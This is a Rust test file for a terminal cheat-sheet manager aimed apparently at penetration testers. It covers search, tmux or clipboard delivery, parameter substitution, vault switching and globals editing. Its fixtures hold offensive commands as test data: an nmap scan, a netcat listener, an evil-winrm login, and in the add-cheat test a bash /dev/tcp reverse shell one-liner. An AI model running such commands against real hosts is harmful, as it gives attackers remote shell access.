use std::cell::RefCell;
use std::collections::VecDeque;
use std::fs;
use std::path::Path;

use arsenal_cli::app::App;
use arsenal_cli::navigation::{Focus, Key, ViewMode};
use arsenal_cli::terminal::Console;
use arsenal_core::config::Settings;
use arsenal_core::error::{Error, Result};
use arsenal_core::globals::GlobalParameters;
use arsenal_core::sinks::{Clipboard, Multiplexer};

const SCREEN: (u16, u16) = (100, 30);

/// Replays a fixed list of keys. Running out of keys is an input failure.
struct ScriptedConsole {
    keys: VecDeque<Key>,
}

impl ScriptedConsole {
    fn new(keys: Vec<Key>) -> Self {
        Self { keys: keys.into() }
    }
}

impl Console for ScriptedConsole {
    fn size(&self) -> Result<(u16, u16)> {
        Ok(SCREEN)
    }

    fn next_key(&mut self) -> Result<Option<Key>> {
        self.keys
            .pop_front()
            .map(Some)
            .ok_or_else(|| Error::Misc("Input ended".to_string()))
    }
}

#[derive(Default)]
struct RecordingClipboard {
    copied: RefCell<Vec<String>>,
    broken: bool,
}

impl Clipboard for RecordingClipboard {
    fn copy(&self, text: &str) -> bool {
        if self.broken {
            return false;
        }
        self.copied.borrow_mut().push(text.to_string());
        true
    }
}

#[derive(Default)]
struct FakeTmux {
    active: bool,
    sent: RefCell<Vec<(String, bool)>>,
}

impl Multiplexer for FakeTmux {
    fn is_active(&self) -> bool {
        self.active
    }

    fn send(&self, text: &str, execute: bool) -> bool {
        if !self.active {
            return false;
        }
        self.sent.borrow_mut().push((text.to_string(), execute));
        true
    }
}

fn write_fixtures(base: &Path) -> Settings {
    let settings = Settings::rooted_at(base);
    let cheats = &settings.cheat_paths[0];
    fs::create_dir_all(cheats).unwrap();

    fs::write(
        cheats.join("a_recon.md"),
        "# Recon\n#cat/recon\n\n## Port scan\n```\nnmap -sV <ip>\n```\n\n## Who am I\n```\nwhoami\n```\n",
    )
    .unwrap();
    fs::write(
        cheats.join("b_shell.md"),
        "# Shells\n#cat/shell\n\n## Listener\n```\nnc -lvnp <lport>\n```\n",
    )
    .unwrap();
    fs::write(
        cheats.join("c_broken.md"),
        "## Unterminated\n```\nls -la\n",
    )
    .unwrap();
    fs::write(&settings.globals_file, r#"{"ip": "10.10.10.10"}"#).unwrap();

    settings
}

fn app(settings: Settings, tmux_active: bool) -> App<RecordingClipboard, FakeTmux> {
    App::new(
        settings,
        RecordingClipboard::default(),
        FakeTmux {
            active: tmux_active,
            ..FakeTmux::default()
        },
    )
}

fn chars(text: &str) -> Vec<Key> {
    text.chars().map(Key::Char).collect()
}

fn run(app: &mut App<RecordingClipboard, FakeTmux>, keys: Vec<Key>) {
    let mut console = ScriptedConsole::new(keys);
    let mut out = Vec::new();
    app.run(&mut console, &mut out).unwrap();
    assert!(console.keys.is_empty());
}

#[test]
fn test_startup_skips_broken_file_and_keeps_the_rest() {
    let dir = tempfile::tempdir().unwrap();
    let mut app = app(write_fixtures(dir.path()), false);

    assert_eq!(app.store().len(), 3);
    assert_eq!(app.navigation().status, "[default] 3 cheats (1 skipped)");
    assert_eq!(app.globals().get("ip"), Some("10.10.10.10"));
    assert_eq!(app.globals().get("lport"), Some(""));

    run(&mut app, vec![Key::Char('q')]);
}

#[test]
fn test_enter_sends_to_tmux_when_active() {
    let dir = tempfile::tempdir().unwrap();
    let mut app = app(write_fixtures(dir.path()), true);

    let mut keys = chars("whoami");
    keys.extend([Key::Down, Key::Enter, Key::Ctrl('q')]);
    run(&mut app, keys);

    assert_eq!(
        *app.multiplexer().sent.borrow(),
        vec![("whoami".to_string(), true)]
    );
    assert!(app.clipboard().copied.borrow().is_empty());
    assert_eq!(app.navigation().status, "Sent to tmux!");
}

#[test]
fn test_enter_falls_back_to_clipboard_with_resolved_parameters() {
    let dir = tempfile::tempdir().unwrap();
    let mut app = app(write_fixtures(dir.path()), false);

    let mut keys = chars("nmap");
    // Focus the list, run, confirm the parameter editor
    keys.extend([Key::Down, Key::Enter, Key::Enter, Key::Ctrl('c')]);
    run(&mut app, keys);

    assert_eq!(
        *app.clipboard().copied.borrow(),
        vec!["nmap -sV 10.10.10.10".to_string()]
    );
    assert_eq!(app.navigation().status, "Copied!");
}

#[test]
fn test_failed_delivery_reports_failure() {
    let dir = tempfile::tempdir().unwrap();
    let mut app = App::new(
        write_fixtures(dir.path()),
        RecordingClipboard {
            broken: true,
            ..RecordingClipboard::default()
        },
        FakeTmux::default(),
    );

    let mut keys = chars("whoami");
    keys.extend([Key::Down, Key::Enter, Key::Ctrl('q')]);
    run(&mut app, keys);
    assert_eq!(app.navigation().status, "Failed");
}

#[test]
fn test_copy_resolved_never_uses_tmux() {
    let dir = tempfile::tempdir().unwrap();
    let mut app = app(write_fixtures(dir.path()), true);

    let mut keys = chars("listener");
    keys.push(Key::Ctrl('o'));
    // Edit lport in the parameter editor, then confirm
    keys.push(Key::Char('e'));
    keys.extend(chars("4444"));
    keys.extend([Key::Enter, Key::Enter, Key::Ctrl('q')]);
    run(&mut app, keys);

    assert!(app.multiplexer().sent.borrow().is_empty());
    assert_eq!(
        *app.clipboard().copied.borrow(),
        vec!["nc -lvnp 4444".to_string()]
    );
    assert_eq!(app.globals().get("lport"), Some(""));
}

#[test]
fn test_cancelled_resolution_and_raw_copy() {
    let dir = tempfile::tempdir().unwrap();
    let mut app = app(write_fixtures(dir.path()), false);

    run(&mut app, vec![Key::Ctrl('o'), Key::Esc, Key::Char('q')]);
    assert_eq!(app.navigation().status, "Cancelled");
    assert!(app.clipboard().copied.borrow().is_empty());

    run(&mut app, vec![Key::Ctrl('y'), Key::Char('q')]);
    assert_eq!(app.navigation().status, "Copied raw!");
    assert_eq!(
        *app.clipboard().copied.borrow(),
        vec!["nmap -sV <ip>".to_string()]
    );
}

#[test]
fn test_q_is_typed_while_searching() {
    let dir = tempfile::tempdir().unwrap();
    let mut app = app(write_fixtures(dir.path()), false);

    run(&mut app, vec![Key::Char('x'), Key::Char('q'), Key::Ctrl('c')]);
    assert_eq!(app.navigation().query, "xq");
    assert_eq!(app.navigation().focus, Focus::Search);
}

#[test]
fn test_tree_view_expands_first_tool() {
    let dir = tempfile::tempdir().unwrap();
    let mut app = app(write_fixtures(dir.path()), false);

    run(
        &mut app,
        vec![Key::Ctrl('v'), Key::Down, Key::Enter, Key::Char('q')],
    );

    assert_eq!(app.navigation().view_mode, ViewMode::Tree);
    assert!(app.navigation().expanded_tools.contains("nc"));
    assert_eq!(app.navigation().status, "View: tree");
}

#[test]
fn test_switching_to_discovered_vault() {
    let dir = tempfile::tempdir().unwrap();
    let settings = write_fixtures(dir.path());
    let htb = settings.playbook_roots[0].join("htb");
    fs::create_dir_all(&htb).unwrap();
    fs::write(
        htb.join("notes.md"),
        "## Evil-WinRM\n```\nevil-winrm -i <ip> -u <user>\n```\n",
    )
    .unwrap();
    let mut app = app(settings, false);

    run(
        &mut app,
        vec![Key::Right, Key::Ctrl('p'), Key::Down, Key::Enter, Key::Char('q')],
    );

    let navigation = app.navigation();
    assert_eq!(navigation.active_vault, "htb");
    assert_eq!(navigation.active_tag, "all");
    assert_eq!(navigation.status, "[htb] 1 cheats");
    assert_eq!(app.store().len(), 1);
    assert_eq!(app.globals().get("user"), Some(""));
    assert!(app.vaults().contains_key("htb"));
}

#[test]
fn test_cancelled_vault_picker() {
    let dir = tempfile::tempdir().unwrap();
    let mut app = app(write_fixtures(dir.path()), false);

    run(&mut app, vec![Key::Ctrl('p'), Key::Esc, Key::Char('q')]);
    assert_eq!(app.navigation().active_vault, "default");
    assert_eq!(app.navigation().status, "Cancelled");
}

#[test]
fn test_globals_editor_saves_on_ctrl_s() {
    let dir = tempfile::tempdir().unwrap();
    let settings = write_fixtures(dir.path());
    let globals_file = settings.globals_file.clone();
    let mut app = app(settings, false);

    let mut keys = vec![Key::Ctrl('g'), Key::Enter];
    keys.extend(std::iter::repeat(Key::Backspace).take("10.10.10.10".len()));
    keys.extend(chars("1.2.3.4"));
    keys.extend([Key::Enter, Key::Ctrl('s'), Key::Char('q')]);
    run(&mut app, keys);

    assert_eq!(app.navigation().status, "Globals saved");
    assert_eq!(app.globals().get("ip"), Some("1.2.3.4"));
    let saved = GlobalParameters::load(&globals_file);
    assert_eq!(saved.get("ip"), Some("1.2.3.4"));
}

#[test]
fn test_globals_editor_escape_keeps_edits_in_memory_only() {
    let dir = tempfile::tempdir().unwrap();
    let settings = write_fixtures(dir.path());
    let globals_file = settings.globals_file.clone();
    let mut app = app(settings, false);

    let mut keys = vec![Key::Ctrl('g'), Key::Down, Key::Enter];
    keys.extend(chars("9001"));
    keys.extend([Key::Enter, Key::Esc, Key::Char('q')]);
    run(&mut app, keys);

    assert_eq!(app.navigation().status, "Globals updated");
    assert_eq!(app.globals().get("lport"), Some("9001"));
    assert!(!fs::read_to_string(globals_file).unwrap().contains("9001"));
}

#[test]
fn test_add_cheat_appends_and_reloads() {
    let dir = tempfile::tempdir().unwrap();
    let settings = write_fixtures(dir.path());
    let custom_file = settings.custom_cheats_file.clone();
    let globals_file = settings.globals_file.clone();
    let mut app = app(settings, false);

    let mut keys = vec![Key::Ctrl('a'), Key::Char('e')];
    keys.extend(chars("Reverse shell"));
    keys.extend([Key::Enter, Key::Down, Key::Char('e')]);
    keys.extend(chars("bash -i >& /dev/tcp/<lhost>/<lport> 0>&1"));
    keys.extend([Key::Ctrl('d'), Key::Down, Key::Char('e')]);
    keys.extend(chars("cat/shell"));
    keys.extend([Key::Enter, Key::Enter, Key::Char('q')]);
    run(&mut app, keys);

    assert_eq!(app.navigation().status, "Cheat added!");
    assert_eq!(app.store().len(), 4);
    assert!(app
        .store()
        .cheats()
        .iter()
        .any(|cheat| cheat.title == "Reverse shell" && cheat.tags.contains("cat/shell")));

    let written = fs::read_to_string(custom_file).unwrap();
    assert!(written.contains("## Reverse shell\n#cat/shell \n```\nbash -i"));
    assert!(fs::read_to_string(globals_file).unwrap().contains("lhost"));
    assert_eq!(app.globals().get("lhost"), Some(""));
}

#[test]
fn test_cancelled_add_cheat_writes_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let settings = write_fixtures(dir.path());
    let custom_file = settings.custom_cheats_file.clone();
    let mut app = app(settings, false);

    run(&mut app, vec![Key::Ctrl('a'), Key::Esc, Key::Char('q')]);
    assert_eq!(app.navigation().status, "Cancelled");
    assert!(!custom_file.exists());
}

#[test]
fn test_empty_vault_still_runs() {
    let dir = tempfile::tempdir().unwrap();
    let mut app = app(Settings::rooted_at(dir.path()), false);

    assert!(app.store().is_empty());
    assert_eq!(app.navigation().status, "[default] 0 cheats");
    run(&mut app, vec![Key::Down, Key::Enter, Key::Char('q')]);
}

#[test]
fn test_input_failure_ends_the_loop_with_an_error() {
    let dir = tempfile::tempdir().unwrap();
    let mut app = app(write_fixtures(dir.path()), false);

    let mut console = ScriptedConsole::new(Vec::new());
    let mut out = Vec::new();
    assert!(app.run(&mut console, &mut out).is_err());
}
